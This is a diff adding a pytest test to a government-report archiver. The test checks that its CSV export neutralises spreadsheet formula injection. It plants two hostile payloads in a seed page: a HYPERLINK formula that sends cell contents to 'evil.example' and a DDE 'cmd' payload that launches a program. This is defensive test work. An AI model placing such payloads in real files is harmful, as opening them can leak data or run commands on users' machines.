@@ -131,6 +131,23 @@ def test_export_has_a_row_per_version_and_cell(filled: Archive, tmp_path: Path, 
     assert (totals[2]["raw"], float(totals[2]["value"])) == ("40", 40.0)
 
 
+def test_a_csv_export_runs_no_formula_a_portal_printed(archive: Archive, seeds_dir: Path, tmp_path: Path) -> None:
+    text = (seeds_dir / SEED_ZHANGDIAN_2023).read_text(encoding="utf-8").split("\n")
+    row = text.index("\t二、上年结转政府信息公开申请数量") + 1
+    text[row:row + 2] = ['\t=HYPERLINK("http://evil.example/?x="&A1,"0")', "\t+cmd|' /C calc'!A0"]
+    archive.record(capture_of("\n".join(text).encode("utf-8"), url="http://gov.test/formula.html"))
+    out = tmp_path / "export.csv"
+    with archive.session() as session:
+        write_export(session, out, "csv")
+    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    printed = {(r["row"], r["column"]): r["raw"] for r in rows if r["table"] == "applications"}
+    assert printed[("carried_over", "natural_person")] == '\'=HYPERLINK("http://evil.example/?x="&A1,"0")'
+    assert printed[("carried_over", "commercial")] == "'+cmd|' /C calc'!A0"
+    assert not [r for r in rows if any(value.startswith(("=", "+", "@")) for value in r.values())]
+    signed = [r["raw"] for r in rows if r["raw"].startswith("-")]  # 本年增/减 printed -1 stays a number
+    assert all(raw.lstrip("-").isdigit() for raw in signed)
+
+
 def test_a_version_whose_parse_failed_is_listed_as_not_parsed(archive: Archive) -> None:
     # a PDF that is no PDF, known by its listing title
     broken = capture_of(b"%PDF-1.7\n1 0 obj <</Type /Catalog", url="http://gov.test/files/2021.pdf",
